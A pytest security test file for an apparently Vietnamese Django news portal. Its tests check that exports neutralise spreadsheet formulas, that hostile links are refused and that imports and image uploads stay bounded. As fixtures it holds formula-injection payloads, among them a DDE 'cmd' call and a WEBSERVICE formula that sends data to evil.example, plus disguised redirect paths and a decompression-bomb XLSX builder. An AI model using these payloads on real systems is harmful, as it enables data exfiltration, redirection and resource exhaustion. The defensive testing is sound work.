"""Security review, what staff and imports write: exports that no spreadsheet evaluates
(finding 2), text without control characters and feeds that never fail on it (3), photos in
use that cannot be deleted (4), imports bounded while reading (7), links that stay on the site
(9), unusual filter values (10) and the memory one upload may take (11)."""

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path

import feedparser
import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.db.models import ProtectedError
from openpyxl import load_workbook

from news.events import spreadsheet as registry
from news.models import (
    Article,
    Category,
    Comment,
    Consultation,
    ConsultationReport,
    Document,
    DocumentRelation,
    DocumentType,
    EventSpeaker,
    EventTopic,
    Field,
    Issuer,
    Official,
    ParticipantGroup,
    Position,
    Procedure,
    Programme,
    Signer,
    TrainingEvent,
    Unit,
)
from portal import images, spreadsheets
from portal.models import (
    AttachmentUse,
    Banner,
    CacheVersion,
    Page,
    Photo,
    PhotoUse,
    ServiceLink,
    SiteProfile,
    UnitPortal,
    validate_link,
)
from portal.richtext import sanitise
from tests.factories import (
    ArticleFactory,
    AttachmentFactory,
    DocumentFactory,
    EventFactory,
    PhotoFactory,
    ProcedureFactory,
    figure,
)

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example","Bấm")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)"]


# Finding 2: exports


@pytest.fixture
def hostile_event():
    event = EventFactory(
        title=FORMULAS[0],
        place=FORMULAS[1],
        organiser=FORMULAS[2],
        body='<p>=WEBSERVICE("http://evil.example/?"&amp;A1)</p>',
        participants_total=12,
    )
    EventSpeaker.objects.create(event=event, name=FORMULAS[3], position="=1+1")
    EventTopic.objects.create(event=event, title="=1+1")
    return event


def test_xlsx_export_has_no_formula_and_keeps_the_text(admin_client, hostile_event):
    response = admin_client.get("/admin/news/trainingevent/xuat/xlsx/")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = dict(zip(registry.HEADERS, sheet[2], strict=True))
    assert row["Tên lớp tập huấn"].value == FORMULAS[0]  # shown exactly as typed
    for cell in sheet[2]:
        if isinstance(cell.value, str) and cell.value.startswith(spreadsheets.FORMULA_TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix


def test_csv_export_neutralises_formula_cells_and_imports_back_unchanged(
    admin_client, hostile_event
):
    response = admin_client.get("/admin/news/trainingevent/xuat/csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][0] == "'" + FORMULAS[0]
    imported = admin_client.post(
        "/admin/news/trainingevent/nhap/",
        {"file": SimpleUploadedFile("so.csv", response.content)},
    )
    assert imported.status_code == 302
    hostile_event.refresh_from_db()
    assert hostile_event.title == FORMULAS[0]  # the apostrophe is not kept
    assert hostile_event.place == FORMULAS[1]
    assert TrainingEvent.objects.count() == 1


# Finding 3: control characters


def test_a_title_pasted_from_word_is_stored_clean_and_feeds_work(client):
    article = ArticleFactory(
        title="Tin\x0bmới\x00 về\r\nchuyển đổi số", sapo="Dòng 1\x0b\r\nDòng 2"
    )
    article.refresh_from_db()
    assert article.title == "Tin mới về chuyển đổi số"
    assert article.sapo == "Dòng 1\n\nDòng 2"
    feed = client.get("/rss/")
    assert feed.status_code == 200
    assert feedparser.parse(feed.content).entries[0].title == "Tin mới về chuyển đổi số"


def test_feeds_and_exports_never_fail_on_stored_control_characters(client, admin_client):
    article = ArticleFactory()
    event = EventFactory(is_public=True)
    # Written around the models (an old row, a raw update): the output still holds.
    # (PostgreSQL cannot store NUL at all; the other control characters it stores.)
    Article.objects.filter(pk=article.pk).update(title="A\x0bB\x01C", sapo="S\x0c")
    TrainingEvent.objects.filter(pk=event.pk).update(title="Lớp\x02\x0b", place="P\x1f")
    for url in ("/rss/", f"/rss/{article.category.slug}/", "/rss/tap-huan/"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert not feedparser.parse(response.content).bozo, url
    for fmt in ("xlsx", "csv"):
        assert admin_client.get(f"/admin/news/trainingevent/xuat/{fmt}/").status_code == 200


def _text_fields(model) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if f.editable and isinstance(f, models.CharField | models.TextField) and not f.choices
    ]


def _agency():
    """The organisation's root (every other unit hangs under it)."""
    from tests.agency.factories import the_agency

    return the_agency()


def _instances() -> dict:
    from news.questions.models import Question, Topic
    from news.schedules.models import ScheduleItem, ScheduleWeek
    from portal.models import StaffLoginEvent, Submission
    from tests.questions.factories import question
    from tests.schedules.factories import ItemFactory

    """One saved-ready instance of every model of ours that has text fields."""
    photo = PhotoFactory()
    article = ArticleFactory()
    event = EventFactory()
    return {
        Category: lambda: Category(name="C", slug="c-x"),
        Photo: lambda: photo,
        Article: lambda: article,
        PhotoUse: lambda: PhotoUse.objects.get(
            object_id=ArticleFactory(body=figure(PhotoFactory())).pk
        ),
        Programme: lambda: Programme(name="Chương trình", short_name="CT"),
        TrainingEvent: lambda: event,
        EventSpeaker: lambda: EventSpeaker(event=event, name="N"),
        EventTopic: lambda: EventTopic(event=event, title="T"),
        ParticipantGroup: lambda: ParticipantGroup(event=event, name="G"),
        SiteProfile: lambda: SiteProfile(name="Sở"),
        ServiceLink: lambda: ServiceLink(title="L", url="https://a.example/"),
        UnitPortal: lambda: UnitPortal(name="U", url="https://a.example/"),
        Banner: lambda: Banner(title="B", image=photo, alt_text="A"),
        Page: lambda: Page(title="Trang", slug="trang-x"),
        DocumentType: lambda: DocumentType(name="Loại"),
        Issuer: lambda: Issuer(name="Cơ quan", short_name="CQ"),
        Field: lambda: Field(name="Lĩnh vực"),
        Signer: lambda: Signer(name="Người ký", position="Chức vụ"),
        Document: lambda: DocumentFactory(),
        DocumentRelation: lambda: DocumentRelation(
            source=DocumentFactory(), target=DocumentFactory(), kind="amends"
        ),
        Procedure: lambda: ProcedureFactory(),
        AttachmentUse: lambda: AttachmentUse(
            owner=ArticleFactory(), attachment=AttachmentFactory(), label="Nhãn"
        ),
        CacheVersion: lambda: CacheVersion(name="n", token="t"),
        Submission: lambda: Submission(kind="question", address="a" * 32),
        StaffLoginEvent: lambda: StaffLoginEvent(outcome="failed"),
        Unit: lambda: Unit(name="Đơn vị", slug="don-vi-x", parent=_agency()),
        Position: lambda: Position(name="Chức vụ thử"),
        Official: lambda: Official(
            name="Cán bộ",
            position=Position.objects.create(name="Chức vụ của cán bộ"),
            unit=Unit.objects.create(name="Đơn vị của cán bộ", parent=_agency()),
        ),
        Topic: lambda: Topic(name="Lĩnh vực hỏi đáp"),
        Question: lambda: question(),
        Consultation: lambda: _consultations().ConsultationFactory(),
        Comment: lambda: _consultations().CommentFactory(),
        ConsultationReport: lambda: _consultations().ReportFactory(),
        ScheduleWeek: lambda: ScheduleWeek(starts_on=date(2030, 1, 7)),
        ScheduleItem: lambda: ItemFactory(),
    }


def test_every_text_field_of_every_model_is_stored_without_control_characters():
    made = _instances()
    ours = [
        m
        for app in ("news", "portal")
        for m in apps.get_app_config(app).get_models()
        if _text_fields(m)
    ]
    assert set(ours) <= set(made), f"add to _instances(): {set(ours) - set(made)}"
    for model in ours:
        instance = made[model]()
        for field in _text_fields(model):
            if isinstance(field, models.SlugField | models.EmailField) or field.name in (
                "url",
                "link",
            ):
                value = "a\x0bb\x00c"
            else:
                # \u202e and \u2066: bidi overrides that make "gpj.exe" read "exe.jpg"
                value = "Chữ\x0bđầu\x00\x1f\x7f\x85 cu\u202eối\u2066"
            setattr(instance, field.attname, value)
        instance.save()
        instance.refresh_from_db()
        for field in _text_fields(model):
            stored = getattr(instance, field.attname)
            assert not any(ch in stored for ch in "\x00\x0b\x1f\x7f\u202e\u2066"), (
                model, field.name, stored,
            )  # fmt: skip


def test_an_overlong_value_is_refused_before_the_database():
    with pytest.raises(ValidationError) as info:
        ArticleFactory(title="x" * 256)
    assert "tối đa 255" in str(info.value)
    assert not Article.objects.exists()


# Finding 4: photos in use


def _question(**values):
    from tests.questions.factories import question

    answer = values.pop("answer")
    q = question(**values)
    q.body = answer
    q.save()
    return q


def _uses(photo) -> dict:
    """Each way a photo can be used, as a function that makes that use."""
    return {
        "article body": lambda: ArticleFactory(body=figure(photo), title="Bài dùng ảnh"),
        "article cover": lambda: ArticleFactory(cover_photo=photo, title="Bài dùng ảnh"),
        "page body": lambda: Page.objects.create(title="Trang dùng ảnh", body=figure(photo)),
        "event body": lambda: EventFactory(title="Lớp dùng ảnh", body=figure(photo)),
        "document full text": lambda: DocumentFactory(
            summary="Văn bản dùng ảnh", body=figure(photo)
        ),
        "procedure notes": lambda: ProcedureFactory(name="Thủ tục dùng ảnh", body=figure(photo)),
        "banner": lambda: Banner.objects.create(
            title="Băng rôn dùng ảnh", image=photo, alt_text="A"
        ),
        "profile logo": lambda: SiteProfile.objects.create(name="Sở dùng ảnh", logo=photo),
        "service icon": lambda: ServiceLink.objects.create(
            title="Dịch vụ dùng ảnh", url="https://a.example/", icon_image=photo
        ),
        "question answer": lambda: _question(title="Câu hỏi dùng ảnh", answer=figure(photo)),
        "unit functions": lambda: Unit.objects.create(
            name="Đơn vị dùng ảnh", body=figure(photo), parent=_agency()
        ),
        "unit functions in English": lambda: Unit.objects.create(
            name="Đơn vị dùng ảnh ở bản tiếng Anh", functions_en=figure(photo), parent=_agency()
        ),
        "official portrait": lambda: Official.objects.create(
            name="Cán bộ dùng ảnh",
            photo=photo,
            position=Position.objects.create(name="Chức vụ"),
            unit=_agency(),
        ),
        "consultation body": lambda: _consultations().ConsultationFactory(
            title="Dự thảo dùng ảnh", body=figure(photo)
        ),
        "consultation report": lambda: _consultations().ReportFactory(
            consultation=_consultations().ConsultationFactory(title="Dự thảo có báo cáo dùng ảnh"),
            body=figure(photo),
        ),
    }


def _consultations():
    from tests.consultations import conftest

    return conftest


USES = list(_uses(None))


@pytest.mark.parametrize("use", USES)
def test_a_photo_in_use_cannot_be_deleted_and_the_refusal_names_the_user(admin_client, use):
    photo = PhotoFactory()
    _uses(photo)[use]()
    page = admin_client.get(f"/admin/portal/photo/{photo.pk}/delete/").content.decode()
    assert "dùng ảnh" in page  # the thing that uses it is named
    admin_client.post(f"/admin/portal/photo/{photo.pk}/delete/", {"post": "yes"})
    bulk = admin_client.post(
        "/admin/portal/photo/",
        {"action": "delete_selected", "_selected_action": [photo.pk], "post": "yes"},
    )
    assert "dùng ảnh" in bulk.content.decode()
    assert Photo.objects.filter(pk=photo.pk).exists()
    with pytest.raises(ProtectedError):
        photo.delete()  # from code or the shell too


from news.questions.models import Question  # noqa: E402

USE_MODELS = {
    "article body": PhotoUse,
    "article cover": Article,
    "page body": Page,
    "event body": TrainingEvent,
    "document full text": Document,
    "procedure notes": Procedure,
    "banner": Banner,
    "profile logo": SiteProfile,
    "service icon": ServiceLink,
    "consultation body": Consultation,
    "consultation report": ConsultationReport,
    "question answer": Question,
    "unit functions": Unit,
    "unit functions in English": Unit,
    "official portrait": Official,
}


def test_every_model_that_references_photos_is_in_the_in_use_check():
    from portal.models import RichBody
    from portal.models.content import _photo_references

    assert set(USE_MODELS) == set(USES)
    referencing = {model for model, _name in _photo_references()}
    bodies = {m for m in apps.get_models() if issubclass(m, RichBody)}
    assert referencing | bodies <= set(USE_MODELS.values()), "add the new use to _uses()"


def test_unused_photos_are_deleted_with_their_files(
    admin_client, media_root, django_capture_on_commit_callbacks
):
    single, first, second = PhotoFactory(), PhotoFactory(), PhotoFactory()
    files = [
        Path(media_root) / name
        for photo in (single, first, second)
        for name in [photo.image.name, *photo.renditions.values()]
    ]
    assert all(f.exists() for f in files)
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(f"/admin/portal/photo/{single.pk}/delete/", {"post": "yes"})
        admin_client.post(
            "/admin/portal/photo/",
            {"action": "delete_selected", "_selected_action": [first.pk, second.pk], "post": "yes"},
        )
    assert not Photo.objects.exists()
    assert not any(f.exists() for f in files)


# Finding 7: imports


def import_file(client, name: str, data: bytes):
    return client.post("/admin/news/trainingevent/nhap/", {"file": SimpleUploadedFile(name, data)})


MAIN = "http://schemas.openxmlformats.org"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _sheet_xml(rows: int) -> bytes:
    header = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{label}</t></is></c>'
        for i, label in enumerate(registry.HEADERS)
    )
    # Rows without numbers are numbered in order; identical ones compress about 1000 to 1.
    body = '<row><c t="inlineStr"><is><t>Lớp</t></is></c></row>' * rows
    namespace = f"{MAIN}/spreadsheetml/2006/main"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{namespace}"><sheetData>'
        f'<row r="1">{header}</row>{body}</sheetData></worksheet>'
    ).encode()


def _relationship(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{MAIN}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{MAIN}/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
        "</Relationships>"
    )


def handmade_xlsx(rows: int) -> bytes:
    """A minimal valid XLSX whose one sheet has ``rows`` data rows (tiny when zipped)."""
    files = {
        "[Content_Types].xml": (
            f'<Types xmlns="{MAIN}/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{SHEET_TYPE}.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": _relationship("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}/spreadsheetml/2006/main" '
            f'xmlns:r="{MAIN}/officeDocument/2006/relationships">'
            '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": _relationship("worksheet", "worksheets/sheet1.xml"),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        archive.writestr("xl/worksheets/sheet1.xml", _sheet_xml(rows))
    return buffer.getvalue()


def test_a_small_xlsx_of_two_million_rows_is_refused_without_being_read(admin_client):
    data = handmade_xlsx(2_000_000)
    assert len(data) < 5 * 1024 * 1024
    response = import_file(admin_client, "so.xlsx", data)
    assert response.status_code == 200
    assert "giải nén ra quá lớn" in response.content.decode()
    assert not TrainingEvent.objects.exists()


def test_the_row_limit_stops_reading(admin_client, monkeypatch):
    read = []
    original = spreadsheets._xlsx_rows

    def counting(data, limits):
        for row in original(data, limits):
            read.append(row)
            yield row

    monkeypatch.setattr(spreadsheets, "_xlsx_rows", counting)
    monkeypatch.setattr(registry.LAYOUT, "max_rows", 50)
    response = import_file(admin_client, "so.xlsx", handmade_xlsx(20_000))
    assert "quá nhiều dòng" in response.content.decode()
    assert len(read) <= 52  # header, 50 rows, and the one that passed the limit


CSV_HEADER = "Tên lớp tập huấn,Bắt đầu,Kết thúc,Địa điểm,Tổng số học viên,Nhóm học viên\n"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,inf,", "số nguyên từ 0 đến"),
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,-1e400,", "số nguyên từ 0 đến"),
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,1e20,", "số nguyên từ 0 đến"),
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,99999999999,", "số nguyên từ 0 đến"),
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,5,Nhóm: 1e20", "số nguyên từ 0 đến"),
        ("Lớp,01/01/0001 08:00,01/02/2024 16:00,Sở,5,", "không đúng dạng"),
        ("Lớp,01/02/9999 08:00,01/02/9999 16:00,Sở,5,", "không đúng dạng"),
        ("Lớp\x00,01/02/2024 08:00,01/02/2024 16:00,Sở,5,", "ký tự rỗng"),
        ("x" * 300 + ",01/02/2024 08:00,01/02/2024 16:00,Sở,5,", "tối đa 255"),
        ("Lớp,01/02/2024 08:00,01/02/2024 16:00," + "p" * 400 + ",5,", "tối đa 300"),
    ],
)
def test_odd_values_are_row_errors_and_nothing_is_imported(admin_client, row, message):
    response = import_file(admin_client, "so.csv", (CSV_HEADER + row + "\n").encode())
    assert response.status_code == 200
    html = response.content.decode()
    assert "<td>2</td>" in html and message in html
    assert not TrainingEvent.objects.exists()


def test_a_cell_over_the_csv_field_limit_gets_a_message(admin_client):
    row = "Lớp,01/02/2024 08:00,01/02/2024 16:00,Sở,5," + "n" * 140_000
    response = import_file(admin_client, "so.csv", (CSV_HEADER + row + "\n").encode())
    assert response.status_code == 200
    assert "ô dài quá" in response.content.decode() or "không đọc được" in response.content.decode()
    assert not TrainingEvent.objects.exists()


# Finding 9: links


HOSTILE_PATHS = ["/\\evil.example", "/\t/evil.example", "/\n/evil.example", "//evil.example",
                 "/\r/evil.example", "/\\/evil.example", " //evil.example", "/\x00x"]  # fmt: skip


@pytest.mark.parametrize("link", HOSTILE_PATHS)
def test_site_paths_that_browsers_read_as_another_site_are_refused(link):
    with pytest.raises(ValidationError):
        validate_link(link)


def test_the_admin_refuses_them_for_every_link_field(admin_client):
    response = admin_client.post(
        "/admin/portal/unitportal/add/",
        {"name": "Cổng", "url": "/\\evil.example", "group": "Nhóm", "order": 0, "is_active": "on"},
    )
    assert response.status_code == 200 and "Địa chỉ không hợp lệ" in response.content.decode()
    assert not UnitPortal.objects.exists()


@pytest.mark.parametrize("href", ["/\\evil.example", "/&#9;/evil.example", "//evil.example"])
def test_body_links_that_leave_the_site_in_disguise_are_dropped(href):
    assert "evil" not in sanitise(f'<p><a href="{href}">Xem</a></p>').split("Xem")[0]


# Finding 10: unusual input


@pytest.mark.parametrize("year", ["0", "10000", "99999999999", "²", "-1", "2024x"])
def test_odd_year_filters_in_the_admin_and_its_exports(admin_client, year):
    EventFactory()
    for url in ("/admin/news/trainingevent/", "/admin/news/trainingevent/xuat/xlsx/",
                "/admin/news/trainingevent/xuat/csv/"):  # fmt: skip
        assert admin_client.get(url, {"nam": year}).status_code in (200, 302), (url, year)


def test_huge_ids_are_not_found(client, admin_client):
    huge = "99999999999999999999"
    for url in (f"/bai-viet/{huge}/", f"/luot-xem/{huge}/", f"/tin-tuc/a/b-{huge}/",
                f"/xem-truoc/bai-viet/{huge}/"):  # fmt: skip
        assert client.get(url).status_code in (404, 405), url
    assert admin_client.get("/admin/news/article/99999999999999999999/change/").status_code in (
        302,
        404,
    )


# Finding 11: memory


@pytest.mark.parametrize("case", ["colour", "bilevel"])
def test_decoding_is_bounded_for_the_heaviest_accepted_uploads(case):
    """The heaviest photos accepted (a colour PNG at the decoding limit, a bilevel PNG at the
    pixel limit) stay under the stated ceiling, measured as the peak memory of a separate
    process; a heavier one is refused."""
    script = Path(__file__).with_name("measure_upload_memory.py")
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "portal.settings_test"}
    result = subprocess.run(
        [sys.executable, str(script), case], capture_output=True, text=True, env=env,
        timeout=120, check=True,
    )  # fmt: skip
    figures = dict(line.split("=") for line in result.stdout.split())
    assert figures["accepted"] == "yes" and figures["refused_heavier"] == "yes"
    assert float(figures["peak_mb"]) < 320, figures


def test_a_127_megapixel_bilevel_png_takes_little_memory_and_gives_a_photo():
    data = measure_png(11_300, 11_300, colour_type=0, bit_depth=1)
    assert len(data) < 600_000
    processed = images.process(SimpleUploadedFile("trang.png", data))
    assert processed.width == images.MAX_STORED_SIDE


def measure_png(width, height, *, colour_type, bit_depth) -> bytes:
    from tests.security.measure_upload_memory import flat_png

    return flat_png(width, height, colour_type=colour_type, bit_depth=bit_depth)


def test_an_image_too_heavy_to_decode_is_refused_with_a_message():
    data = measure_png(8000, 8000, colour_type=6, bit_depth=8)
    with pytest.raises(ValidationError) as info:
        images.process(SimpleUploadedFile("nang.png", data))
    assert "quá lớn để xử lý" in info.value.messages[0]


@pytest.mark.parametrize("total", [10**12, -5, 3.5, 1e20])
def test_odd_numbers_in_xlsx_cells_are_row_errors(admin_client, total):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(
        ["Tên lớp tập huấn", "Bắt đầu", "Kết thúc", "Địa điểm", "Tổng số học viên"]
    )
    start = datetime(2024, 2, 1, 8, 0)
    workbook.active.append(["Lớp", start, start, "Sở", total])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = import_file(admin_client, "so.xlsx", buffer.getvalue())
    assert "số nguyên từ 0 đến" in response.content.decode()
    assert not TrainingEvent.objects.exists()
